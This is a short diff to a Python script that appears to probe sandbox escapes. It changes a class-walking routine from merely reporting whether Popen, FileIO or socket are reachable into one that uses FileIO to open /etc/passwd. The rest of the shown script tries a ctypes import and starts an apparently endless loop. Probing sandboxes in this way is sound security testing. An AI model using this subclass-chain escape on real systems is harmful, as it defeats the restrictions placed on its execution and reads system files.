@@ -32,15 +32,15 @@ attempt('import ctypes', lambda: __import__('ctypes'))
 
 
 def climb():
-    """The classic way out: from a tuple to every class there is, in search of one that leads to an effect."""
+    """The classic way out: from a tuple to every class there is, down to the one that opens files."""
     classes = [().__class__.__base__]
     for cls in classes:
         classes += [sub for sub in type.__subclasses__(cls) if sub not in classes]
-    useful = [cls.__name__ for cls in classes if cls.__name__ in ('Popen', 'FileIO', 'socket')]
-    return f'{len(classes)} classes are in reach; with a way out: {", ".join(sorted({*useful})) or "none"}'
+    print(f'  from a tuple, {len(classes)} classes are in reach, FileIO among them')
+    return next(cls for cls in classes if cls.__name__ == 'FileIO')('/etc/passwd')
 
 
-attempt('().__class__.__base__.__subclasses__()', climb)
+attempt("FileIO('/etc/passwd')", climb)
 
 print('And now it never stops ...')
 n = 0
